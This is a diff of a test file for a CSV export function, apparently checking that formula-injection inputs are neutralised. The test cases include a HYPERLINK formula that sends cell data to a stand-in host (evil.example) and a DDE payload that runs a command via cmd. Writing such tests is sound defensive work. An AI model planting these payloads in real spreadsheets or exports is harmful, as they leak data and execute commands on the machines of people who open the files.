@@ -28,7 +28,7 @@ const cellsOf = (csv: string) => {
 describe('toCsv', () => {
   it.each([
     ['=HYPERLINK("https://evil.example/?x="&A1,"Click")'],
-    ['+1+cmd|\' /C calc\'!A0'],
+    ["+1+cmd|' /C calc'!A0"],
     ['-2+3'],
     ['@SUM(A1:A2)'],
     ['\t=1+1'],
